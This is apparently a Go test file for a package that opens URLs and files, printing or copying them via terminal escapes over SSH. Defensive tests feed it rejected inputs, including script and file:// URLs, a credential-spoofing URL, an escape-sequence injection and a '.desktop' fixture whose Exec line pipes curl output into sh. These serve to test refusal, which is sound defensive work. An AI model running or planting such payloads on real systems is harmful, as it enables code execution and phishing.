package open

import (
	"bytes"
	"encoding/base64"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func env(vars map[string]string) func(string) string {
	return func(k string) string { return vars[k] }
}

// recorder is a launcher that records what it was asked to open instead of starting anything.
type recorder struct {
	calls []string
	err   error
}

func (r *recorder) launch(u string) error { r.calls = append(r.calls, u); return r.err }

func TestParseMode(t *testing.T) {
	for in, want := range map[string]Mode{"": Auto, "auto": Auto, " Print ": Print, "BROWSER": Browser} {
		if got, err := ParseMode(in); err != nil || got != want {
			t.Errorf("ParseMode(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	if _, err := ParseMode("firefox"); err == nil || !strings.Contains(err.Error(), "auto, browser or print") {
		t.Errorf("ParseMode(firefox) = %v; want a sentence listing the choices", err)
	}
}

func TestShouldPrint(t *testing.T) {
	desktop := map[string]string{"DISPLAY": ":0"}
	cases := []struct {
		name  string
		mode  Mode
		goos  string
		vars  map[string]string
		print bool
		why   string
	}{
		{"ssh connection", Auto, "linux", map[string]string{"DISPLAY": ":0", "SSH_CONNECTION": "10.0.0.2 5555 10.0.0.1 22"}, true, "SSH"},
		{"ssh tty", Auto, "darwin", map[string]string{"SSH_TTY": "/dev/pts/3"}, true, "SSH"},
		{"ssh client", Auto, "linux", map[string]string{"DISPLAY": ":0", "SSH_CLIENT": "10.0.0.2 5555 22"}, true, "SSH"},
		{"linux desktop", Auto, "linux", desktop, false, ""},
		{"wayland", Auto, "linux", map[string]string{"WAYLAND_DISPLAY": "wayland-0"}, false, ""},
		{"linux console", Auto, "linux", nil, true, "graphical display"},
		{"mac", Auto, "darwin", nil, false, ""},
		{"windows", Auto, "windows", nil, false, ""},
		{"forced print", Print, "darwin", nil, true, "open = print"},
		{"forced browser over ssh", Browser, "linux", map[string]string{"SSH_TTY": "/dev/pts/1"}, false, ""},
	}
	for _, tc := range cases {
		o := New(tc.mode, nil, WithEnv(env(tc.vars)), WithGOOS(tc.goos), WithLauncher(func(string) error { return nil }))
		print, why := o.ShouldPrint()
		if print != tc.print || !strings.Contains(why, tc.why) {
			t.Errorf("%s: ShouldPrint = %v, %q; want %v, %q", tc.name, print, why, tc.print, tc.why)
		}
	}
}

func TestURLOverSSHPrintsAndCopies(t *testing.T) {
	var out bytes.Buffer
	rec := &recorder{}
	o := New(Auto, &out, WithEnv(env(map[string]string{"SSH_CONNECTION": "a b c d"})), WithLauncher(rec.launch))
	u := "https://northwind.example.com/c2/firmware?lang=es&x=1"
	res, err := o.URL(u)
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.calls) != 0 {
		t.Fatalf("a browser was launched over SSH: %v", rec.calls)
	}
	want := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte(u)) + "\x07"
	if out.String() != want {
		t.Fatalf("OSC 52 written = %q, want %q", out.String(), want)
	}
	if !res.Copied || res.Launched || !strings.Contains(res.Sentence(), u) || !strings.Contains(res.Sentence(), "SSH") {
		t.Fatalf("result %+v, sentence %q", res, res.Sentence())
	}
}

func TestOSC52InsideTmuxAndScreen(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte("https://a.example"))
	tm := OSC52("https://a.example", env(map[string]string{"TMUX": "/tmp/tmux-0/default,1,0"}))
	if tm != "\x1bPtmux;\x1b\x1b]52;c;"+b64+"\x07\x1b\\" {
		t.Fatalf("tmux OSC 52 = %q", tm)
	}
	sc := OSC52("https://a.example", env(map[string]string{"TERM": "screen-256color"}))
	if !strings.HasPrefix(sc, "\x1bP\x1b]52;c;") || !strings.HasSuffix(sc, "\x07\x1b\\") {
		t.Fatalf("screen OSC 52 = %q", sc)
	}
}

func TestURLLaunchesOnDesktop(t *testing.T) {
	var out bytes.Buffer
	rec := &recorder{}
	o := New(Auto, &out, WithEnv(env(map[string]string{"DISPLAY": ":0"})), WithGOOS("linux"), WithLauncher(rec.launch))
	res, err := o.URL("  https://example.com/a  ")
	if err != nil || !res.Launched || len(rec.calls) != 1 || rec.calls[0] != "https://example.com/a" {
		t.Fatalf("URL = %+v, %v; launcher got %v", res, err, rec.calls)
	}
	if out.Len() != 0 {
		t.Fatalf("wrote %q to the terminal while launching", out.String())
	}
}

func TestURLLaunchFailureFallsBackToPrint(t *testing.T) {
	var out bytes.Buffer
	rec := &recorder{err: errors.New("exec: \"xdg-open\": executable file not found")}
	o := New(Browser, &out, WithEnv(env(nil)), WithLauncher(rec.launch))
	res, err := o.URL("https://example.com")
	if err != nil || res.Launched || !res.Copied || !strings.Contains(res.Reason, "could not be started") {
		t.Fatalf("URL after a failed launch = %+v, %v", res, err)
	}
	if !strings.HasPrefix(out.String(), "\x1b]52;c;") {
		t.Fatalf("the URL was not copied: %q", out.String())
	}
}

func TestURLRefusesDangerousSchemes(t *testing.T) {
	for _, u := range []string{
		"javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<script>", "file:///etc/passwd",
		"vbscript:x", "intent://x", "https://", "https://bank.example@evil.example/", "http://a b",
		"https://x.example/\x1b]52;c;AAAA\x07", "", "  ", "mailto:", "//evil.example",
	} {
		var out bytes.Buffer
		rec := &recorder{}
		for _, mode := range []Mode{Browser, Print} {
			o := New(mode, &out, WithEnv(env(nil)), WithLauncher(rec.launch))
			if _, err := o.URL(u); !errors.Is(err, ErrNotOpenable) {
				t.Errorf("URL(%q) in %s mode = %v; want ErrNotOpenable", u, mode, err)
			}
		}
		if len(rec.calls) != 0 || out.Len() != 0 {
			t.Errorf("URL(%q) launched %v or copied %q", u, rec.calls, out.String())
		}
	}
	for _, u := range []string{"http://example.com", "HTTPS://EXAMPLE.COM/x", "mailto:ventas@example.com?subject=hola"} {
		if !Openable(u) {
			t.Errorf("Openable(%q) = false", u)
		}
	}
}

func TestFile(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "factura #1 100% ok.pdf")
	if err := os.WriteFile(p, []byte("%PDF-1.4\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	rec := &recorder{}
	o := New(Auto, nil, WithEnv(env(map[string]string{"DISPLAY": ":0"})), WithGOOS("linux"), WithLauncher(rec.launch))
	res, err := o.File(p)
	if err != nil || !res.Launched || !res.IsFile {
		t.Fatalf("File = %+v, %v", res, err)
	}
	want := "file://" + filepath.ToSlash(dir) + "/factura%20%231%20100%25%20ok.pdf"
	if len(rec.calls) != 1 || rec.calls[0] != want {
		t.Fatalf("launcher got %v, want %q", rec.calls, want)
	}

	var out bytes.Buffer
	rec = &recorder{}
	o = New(Auto, &out, WithEnv(env(map[string]string{"SSH_TTY": "/dev/pts/0"})), WithLauncher(rec.launch))
	res, err = o.File(p)
	if err != nil || res.Launched || len(rec.calls) != 0 || out.Len() != 0 {
		t.Fatalf("File over SSH = %+v, %v; launched %v, wrote %q", res, err, rec.calls, out.String())
	}
	if s := res.Sentence(); !strings.Contains(s, p) || !strings.Contains(s, "SSH") {
		t.Fatalf("sentence %q should give the path and say why it was not opened", s)
	}
}

func TestHyperlink(t *testing.T) {
	off := New(Auto, nil)
	if got := off.Hyperlink("docs", "https://example.com"); got != "docs" {
		t.Fatalf("hyperlinks off: %q", got)
	}
	on := New(Auto, nil, WithHyperlinks(true))
	if got := on.Hyperlink("docs", "https://example.com"); got != "\x1b]8;;https://example.com\x1b\\docs\x1b]8;;\x1b\\" {
		t.Fatalf("hyperlink = %q", got)
	}
	if got := on.Hyperlink("x", "javascript:alert(1)"); got != "x" {
		t.Fatalf("a javascript: link was hyperlinked: %q", got)
	}
	if got := on.RenderLinks(NewParser(), `see <a href="https://a.example">guide</a>`); got != "see \x1b]8;;https://a.example\x1b\\guide\x1b]8;;\x1b\\ (https://a.example)" {
		t.Fatalf("RenderLinks = %q", got)
	}
}

// o hands only the types Mercado Libre allows to the system opener; anything else a buyer sent
// is saved and the sentence says why it was not opened.
func TestFileOpensOnlyAllowedTypes(t *testing.T) {
	dir := t.TempDir()
	for name, content := range map[string]string{
		"evil.desktop": "[Desktop Entry]\nExec=sh -c 'curl x|sh'\n",
		"gnp.exe":      "MZ\x90\x00",
		"noext":        "hola",
		"fake.pdf":     "MZ\x90\x00\x03\x00\x00\x00",
	} {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		rec := &recorder{}
		o := New(Auto, nil, WithEnv(env(map[string]string{"DISPLAY": ":0"})), WithGOOS("linux"), WithLauncher(rec.launch))
		res, err := o.File(p)
		if err != nil || res.Launched || len(rec.calls) != 0 {
			t.Errorf("%s: %+v %v, launched %v", name, res, err, rec.calls)
			continue
		}
		if s := res.Sentence(); !strings.Contains(s, "not opened") || !strings.Contains(s, p) {
			t.Errorf("%s: sentence %q", name, s)
		}
	}
	p := filepath.Join(dir, "foto.png")
	if err := os.WriteFile(p, []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), 0o600); err != nil {
		t.Fatal(err)
	}
	rec := &recorder{}
	o := New(Auto, nil, WithEnv(env(map[string]string{"DISPLAY": ":0"})), WithGOOS("linux"), WithLauncher(rec.launch))
	if res, err := o.File(p); err != nil || !res.Launched {
		t.Fatalf("a PNG was not opened: %+v %v", res, err)
	}
}
